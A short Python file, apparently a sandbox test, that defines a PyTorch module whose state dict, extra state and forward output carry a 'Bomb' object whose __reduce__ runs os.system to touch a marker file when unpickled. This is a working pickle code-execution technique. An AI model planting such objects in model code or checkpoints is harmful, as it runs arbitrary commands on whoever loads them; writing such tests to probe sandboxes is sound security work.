"""Put objects into the state dict that run code where they are unpickled."""

import os

import torch
from torch import nn


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/sandbox_attack_pickle",)


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(planes))

    def state_dict(self, *args, **kwargs):
        return {"weight": self.weight.detach(), "bomb": Bomb()}

    def get_extra_state(self):
        return Bomb()

    def forward(self, x):
        return Bomb()
